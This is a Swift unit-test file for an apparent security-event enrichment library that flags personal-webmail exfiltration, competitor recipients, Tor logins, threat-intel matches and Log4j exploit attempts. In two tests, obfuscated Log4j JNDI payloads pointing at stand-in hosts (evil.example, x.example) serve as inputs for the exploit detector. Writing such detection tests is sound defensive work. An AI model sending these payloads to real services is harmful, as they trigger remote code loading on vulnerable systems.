import XCTest
import OspreyCore
import OspreyGenerator
@testable import OspreyEnrichment

final class EnricherTests: XCTestCase {
    /// The example context plus a generated country and ASN database.
    nonisolated(unsafe) static let fixture: (TempDir, Context) = {
        let tmp = TempDir.exampleCopy()
        var c = MMDBWriter(databaseType: "GeoIP2-Country")
        try! c.insert("81.2.69.0/24", .country("GB"))
        try! c.insert("175.45.176.0/22", .country("KP"))
        try! c.insert("185.220.101.0/24", .country("DE"))
        try! c.insert("203.0.113.0/24", .country("US"))
        try! c.insert("2a02:2e0::/29", .country("CH"))
        try! c.insert("93.184.216.0/24", .country("FR"))
        try! c.write(to: tmp.path + "/country.mmdb")
        var a = MMDBWriter(databaseType: "GeoLite2-ASN")
        try! a.insert("81.2.69.0/24", .asn(20712, "Andrews & Arnold Ltd"))
        try! a.insert("2a02:2e0::/29", .asn(3303, "Swisscom (Schweiz) AG"))
        try! a.write(to: tmp.path + "/asn.mmdb")
        var conf = try! String(contentsOfFile: tmp.path + "/context.conf", encoding: .utf8)
        conf += "geo_databases = country.mmdb, asn.mmdb\n"
        tmp.write("context.conf", conf)
        let ctx = try! Context.load(directory: tmp.path, lists: Paths.lists)
        return (tmp, ctx)
    }()

    func event(_ type: ActivityType, at time: String = "2024-05-01T10:00:00Z", _ fields: [String: Value]) -> Event {
        var e = Event(parser: "test", activityType: type, timeMillis: ms(time))
        for (k, v) in fields.sorted(by: { $0.key < $1.key }) { e[k] = v }
        return e
    }

    func testOutboundEmailToPersonalWebmailWithSourceCode() {
        let en = Enricher(context: Self.fixture.1)
        var e = event(.emailOut, [
            "user": .string("alice@acme.com"), "sender": .string("alice@acme.com"),
            "sender_domain": .string("acme.com"),
            "dest_email_address": .string("Alice.Smith1980@gmail.com"),
            "email_subject": .string("FW: Q3 invoices and my CV"),
            "email_attachments": .list(["budget.xlsx", "Confidential_Plan.docx", "main.py"]),
            "dest_ip": .string("2a02:2e0:3fe:1001::1"),
            "src_ip": .string("10.20.3.4"),
        ])
        en.enrich(&e)
        XCTAssertEqual(e.text("dest_domain"), "gmail.com")
        XCTAssertEqual(e.bool("dest_is_company"), false)
        XCTAssertEqual(e.bool("dest_is_external"), true)
        XCTAssertEqual(e.bool("dest_is_webmail"), true)
        XCTAssertEqual(e.bool("dest_is_disposable"), false)
        XCTAssertEqual(e.bool("dest_is_competitor"), false)
        XCTAssertEqual(e.bool("dest_is_personal"), true)
        XCTAssertEqual(e.text("dest_personal_by"), "context")
        XCTAssertEqual(e.text("dest_reg_domain"), "gmail.com")
        XCTAssertEqual(e.text("dest_country"), "CH")        // from the delivery server's IP
        XCTAssertEqual(e.text("dest_country_source"), "ip")
        XCTAssertEqual(e.bool("sender_is_company"), true)
        XCTAssertEqual(e.bool("sender_is_webmail"), false)
        XCTAssertEqual(e.text("peer_group"), "finance")
        XCTAssertEqual(e.bool("user_known"), true)
        XCTAssertEqual(e.bool("user_is_executive"), true)
        XCTAssertEqual(e.bool("user_is_deactivated"), false)
        XCTAssertEqual(e.text("user_department"), "Finance")
        XCTAssertEqual(e.text("user_title"), "CFO")
        XCTAssertEqual(e.text("user_manager"), "ceo@acme.com")
        XCTAssertEqual(e.bool("kw_financial"), true)
        XCTAssertEqual(e.text("kw_financial_match"), "invoice*")
        XCTAssertEqual(e.bool("kw_job"), true)
        XCTAssertEqual(e.text("kw_job_match"), "cv")
        XCTAssertEqual(e.bool("kw_privacy"), false)
        XCTAssertEqual(e.bool("kw_confidential_file"), true)
        XCTAssertEqual(e.text("kw_confidential_file_match"), "*confidential*")
        XCTAssertEqual(e.bool("file_is_source_code"), true)
        XCTAssertEqual(e.text("file_source_code_match"), "main.py")
        XCTAssertEqual(e.bool("exploit_log4j"), false)
        XCTAssertEqual(e.text("src_zone"), "datacenter")
        XCTAssertNil(e["src_country"])                      // private address: not in the database
        XCTAssertEqual(e.bool("ti_tor"), false)
        XCTAssertEqual(e[EnrichedFields.srcASN], nil)
    }

    func testOutboundEmailClassesByTLDAndNameMatch() {
        let en = Enricher(context: Self.fixture.1)
        // Name match: bob's own name at a webmail provider, not listed in the context.
        var e = event(.emailOut, ["user": .string("bob@acme.com"), "dest_email_address": .string("bob.jones77@yahoo.co.uk"),
                                  "email_subject": .string("notes")])
        en.enrich(&e)
        XCTAssertEqual(e.bool("dest_is_webmail"), true)
        XCTAssertEqual(e.bool("dest_is_personal"), true)
        XCTAssertEqual(e.text("dest_personal_by"), "name")
        XCTAssertEqual(e.text("dest_country"), "GB")
        XCTAssertEqual(e.text("dest_country_source"), "tld")
        XCTAssertEqual(e.bool("user_is_deactivated"), true)  // deactivated 2024-03-31, event in May
        XCTAssertEqual(e.bool("user_is_privileged"), true)
        // Someone else's name at webmail is not personal.
        var e2 = event(.emailOut, ["user": .string("bob@acme.com"), "dest_email_address": .string("carol.white@gmail.com")])
        en.enrich(&e2)
        XCTAssertEqual(e2.bool("dest_is_personal"), false)
        // Competitor (glob initech.*), disposable, company.
        var e3 = event(.emailOut, ["user": .string("alice@acme.com"), "dest_email_address": .string("ceo@initech.de")])
        en.enrich(&e3)
        XCTAssertEqual(e3.bool("dest_is_competitor"), true)
        XCTAssertEqual(e3.text("dest_country"), "DE")
        var e4 = event(.emailOut, ["user": .string("alice@acme.com"), "dest_email_address": .string("x@mailinator.com")])
        en.enrich(&e4)
        XCTAssertEqual(e4.bool("dest_is_disposable"), true)
        XCTAssertEqual(e4.bool("dest_is_webmail"), false)
        var e5 = event(.emailOutFailed, ["user": .string("alice@acme.com"), "dest_email_address": .string("bob@acme.com")])
        en.enrich(&e5)
        XCTAssertEqual(e5.bool("dest_is_company"), true)
        XCTAssertEqual(e5.bool("dest_is_external"), false)
        XCTAssertEqual(e5.bool("dest_user_known"), true)
        XCTAssertEqual(e5.bool("dest_user_is_executive"), false)
        XCTAssertNil(e5["dest_country"])
    }

    func testNameMatch() throws {
        let john = try UserDirectory.parse("user,display_name\njohn.smith@acme.com,\"Smith, John\"\n", file: "u.csv").lookup("john.smith@acme.com")!
        for yes in ["johnsmith@gmail.com", "John.Smith77@gmail.com", "jsmith@yahoo.com", "smithj@x.com", "smith.john@x.com",
                    "j_smith1980@x.com"] {
            XCTAssertTrue(PersonNames.localPartIsOwnName(yes, forms: john.nameForms), yes)
        }
        for no in ["john@gmail.com", "smith@gmail.com", "jsmithers@gmail.com", "carol.white@gmail.com", "js@gmail.com"] {
            XCTAssertFalse(PersonNames.localPartIsOwnName(no, forms: john.nameForms), no)
        }
        let eve = try UserDirectory.parse("user,display_name\nel@acme.com,Élodie Müller\n", file: "u.csv").lookup("el@acme.com")!
        XCTAssertTrue(PersonNames.localPartIsOwnName("élodie.müller@gmx.de", forms: eve.nameForms))
        XCTAssertTrue(PersonNames.localPartIsOwnName("emüller@gmx.de", forms: eve.nameForms))
    }

    func testRecipientListWithoutSingleRecipient() {
        let en = Enricher(context: Self.fixture.1)
        var e = event(.emailOut, ["user": .string("alice@acme.com"),
                                  "email_recipients": .list(["bob@acme.com", "partner@globex.com"])])
        en.enrich(&e)
        XCTAssertEqual(e.bool("dest_is_company"), false)  // not all internal
        XCTAssertEqual(e.bool("dest_is_external"), true)
        XCTAssertEqual(e.bool("dest_is_competitor"), true)
        XCTAssertEqual(e.text("dest_domain"), "acme.com")
        XCTAssertEqual(e.text("dest_reg_domain"), "globex.com") // the first external recipient's
    }

    func testInboundEmailFromWebmailWithLog4jSubject() {
        let en = Enricher(context: Self.fixture.1)
        var e = event(.emailIn, [
            "user": .string("alice@acme.com"), "sender": .string("Mallory <mallory@gmail.com>"),
            "dest_email_address": .string("alice@acme.com"),
            "email_subject": .string("hello ${${lower:j}ndi:ldap://evil.example/a}"),
            "src_ip": .string("81.2.69.160"),
        ])
        en.enrich(&e)
        XCTAssertEqual(e.bool("sender_is_webmail"), true)
        XCTAssertEqual(e.bool("sender_is_company"), false)
        XCTAssertEqual(e.bool("dest_is_company"), true)
        XCTAssertEqual(e.bool("exploit_log4j"), true)
        XCTAssertEqual(e.text("exploit_match"), "${${lower:j}ndi:ldap://evil.example/a}")
        XCTAssertEqual(e.text("exploit_field"), "email_subject")
        XCTAssertEqual(e.text("exploit_pattern"), "${jndi:")
        XCTAssertEqual(e.text("src_country"), "GB")
        XCTAssertEqual(e[EnrichedFields.srcASN], .int(20712))
        XCTAssertEqual(e.text("src_isp"), "Andrews & Arnold Ltd")
        XCTAssertEqual(e.text("src_zone"), "external")
        XCTAssertEqual(e.bool("src_country_suspicious"), false)
    }

    func testLoginFromTorAndSuspiciousCountry() {
        let en = Enricher(context: Self.fixture.1)
        var e = event(.appLogin, ["user": .string("asmith"), "src_ip": .string("185.220.101.33"),
                                  "user_agent": .string("Mozilla/5.0 %24%7Bjndi:dns://x.example/a%7D")])
        en.enrich(&e)
        XCTAssertEqual(e.text("src_country"), "DE")
        XCTAssertEqual(e.bool("ti_tor"), true)
        XCTAssertEqual(e.bool("ti_blacklist"), false)
        XCTAssertEqual(e.bool("ti_ransomware"), false)
        XCTAssertEqual(e.text("ti_match"), "185.220.101.0/24")
        XCTAssertEqual(e.text("peer_group"), "finance")  // user found by alias
        XCTAssertEqual(e.bool("exploit_log4j"), true)
        XCTAssertEqual(e.text("exploit_field"), "user_agent")
        XCTAssertEqual(e.text("exploit_match"), "${jndi:dns://x.example/a}")
        XCTAssertNil(e["kw_financial"])  // no field scanned for keywords is present
        XCTAssertNil(e["dest_is_company"])

        var f = event(.failedAppLogin, ["user": .string("bob@acme.com"), "src_ip": .string("175.45.176.9")])
        en.enrich(&f)
        XCTAssertEqual(f.text("src_country"), "KP")
        XCTAssertEqual(f.bool("src_country_suspicious"), true)
        XCTAssertEqual(f.bool("user_is_deactivated"), true)

        var g = event(.appLogin, at: "2024-01-15T08:00:00Z", ["user": .string("bob@acme.com"), "src_ip": .string("203.0.113.66")])
        en.enrich(&g)
        XCTAssertEqual(g.bool("user_is_deactivated"), false)  // before deactivation
        XCTAssertEqual(g.bool("ti_blacklist"), true)
        XCTAssertEqual(g.text("ti_match"), "203.0.113.66")

        var h = event(.appLogin, ["user": .string("bob@acme.com"), "src_ip": .string("198.51.100.3")])
        en.enrich(&h)
        XCTAssertEqual(h.bool("ti_ransomware"), true)
    }

    func testAuditEventMailboxPermissionOnExecutive() {
        let en = Enricher(context: Self.fixture.1)
        var e = event(.appActivity, [
            "user": .string("svc-backup@acme.com"), "operation": .string("Mailbox permission granted"),
            "dest_email_address": .string("alice@acme.com"), "src_ip": .string("2001:db8:ac::17"),
            "additional_info": .string("Forward to payroll@gmail.com, rule: wire transfer notices"),
        ])
        en.enrich(&e)
        XCTAssertEqual(e.text("peer_group"), "service-accounts")
        XCTAssertEqual(e.bool("user_is_service"), true)
        XCTAssertEqual(e.bool("user_is_privileged"), true)
        XCTAssertEqual(e.bool("dest_user_is_executive"), true)
        XCTAssertEqual(e.text("src_zone"), "corp-lan")
        XCTAssertEqual(e.bool("kw_financial"), true)
        XCTAssertEqual(e.text("kw_financial_match"), "payroll*")  // the first financial keyword in the text

        // Forwarding-rule target in a webmail domain.
        var f = event(.appActivity, ["user": .string("alice@acme.com"), "dest_email_address": .string("someone@outlook.com")])
        en.enrich(&f)
        XCTAssertEqual(f.bool("dest_is_external"), true)
        XCTAssertEqual(f.bool("dest_is_webmail"), true)
        XCTAssertNil(f["dest_user_known"])
    }

    /// Mimecast audit lines name the target of a forwarding rule or a mailbox permission only in their details.
    func testAuditTargetFromDetails() {
        let en = Enricher(context: Self.fixture.1)
        var fwd = event(.appActivity, [
            "user": .string("bob@acme.com"), "operation": .string("Mail Forwarding Rule Created"),
            "additional_info": .string("Mail forwarding rule 'sync' created: forward to Bob.Jones.Backup@GMAIL.com (invoice, payment notifications), Date: 2026-10-18, IP: 100.79.0.10"),
        ])
        en.enrich(&fwd)
        XCTAssertEqual(fwd.text("dest_email_address"), "bob.jones.backup@gmail.com")
        XCTAssertEqual(fwd.text("dest_domain"), "gmail.com")
        XCTAssertEqual(fwd.bool("dest_is_external"), true)
        XCTAssertEqual(fwd.bool("dest_is_webmail"), true)
        XCTAssertEqual(fwd.bool("kw_financial"), true)
        var perm = event(.appActivity, [
            "user": .string("bob@acme.com"), "operation": .string("Mailbox Delegation Permission Granted"),
            "additional_info": .string("Delegate access to alice@acme.com granted: FullAccess, by bob@acme.com"),
        ])
        en.enrich(&perm)
        XCTAssertEqual(perm.text("dest_email_address"), "alice@acme.com")
        XCTAssertEqual(perm.bool("dest_is_company"), true)
        XCTAssertEqual(perm.bool("dest_user_is_executive"), true)
        // The actor's own address is skipped; no address, no destination.
        var own = event(.appActivity, ["user": .string("bob@acme.com"), "additional_info": .string("Password changed by bob@acme.com.")])
        en.enrich(&own)
        XCTAssertNil(own["dest_email_address"])
        XCTAssertNil(own["dest_is_company"])
        XCTAssertEqual(EnrichText.firstAddress(in: "mail a@b (no dot), then <X.Y@Example.co.uk>.", except: nil), "x.y@example.co.uk")
        XCTAssertNil(EnrichText.firstAddress(in: "@home and user@ and @", except: nil))
    }

    func testUnknownAndMissingUsersAreCountedNotDropped() {
        let en = Enricher(context: Self.fixture.1)
        var e = event(.appLogin, ["user": .string("mallory@acme.com"), "src_ip": .string("not-an-ip")])
        en.enrich(&e)
        XCTAssertEqual(e.text("peer_group"), "unassigned")  // context.conf default_peer_group
        XCTAssertEqual(e.bool("user_known"), false)
        XCTAssertEqual(e.bool("user_is_executive"), false)
        var e2 = event(.appActivity, ["operation": .string("x")])
        en.enrich(&e2)
        XCTAssertEqual(e2.text("peer_group"), "unassigned")
        var e3 = e
        en.enrich(&e3)
        XCTAssertEqual(en.stats.events, 3)
        XCTAssertEqual(en.stats.unknownUserEvents, 2)
        XCTAssertEqual(en.stats.eventsWithoutUser, 1)
        XCTAssertEqual(en.stats.unknownUserSample, ["mallory@acme.com"])
        XCTAssertEqual(en.stats.unparsableIPs, 2)
        var total = EnrichmentStats()
        total += en.stats
        total += en.stats
        XCTAssertEqual(total.events, 6)
        XCTAssertEqual(total.unknownUserSample, ["mallory@acme.com"])
    }

    func testCachesAreBoundedAndCorrect() {
        let en = Enricher(context: Self.fixture.1)
        for round in 0..<2 {
            for i in 0..<10_000 {
                var e = event(.appLogin, ["user": .string("alice@acme.com"), "src_ip": .string("81.2.\(i / 256 % 256).\(i % 256)"),
                                          "dest_email_address": .string("u@d\(i % 3000).example.de")])
                en.enrich(&e)
                let expected = i / 256 == 69 ? "GB" : nil
                XCTAssertEqual(e.text("src_country"), expected, "round \(round) i \(i)")
                XCTAssertEqual(e.text("dest_country"), "DE")
            }
        }
        XCTAssertGreaterThan(en.stats.ipCacheMisses, 0)
        XCTAssertEqual(en.stats.ipCacheHits + en.stats.ipCacheMisses, 20_000)
    }

    func testEveryDocumentedFieldIsInFieldsMd() throws {
        let doc = try String(contentsOfFile: Paths.root + "/docs/fields.md", encoding: .utf8)
        for f in EnrichedFields.all { XCTAssertTrue(doc.contains(f.name), "docs/fields.md does not mention \(f.name)") }
    }
}
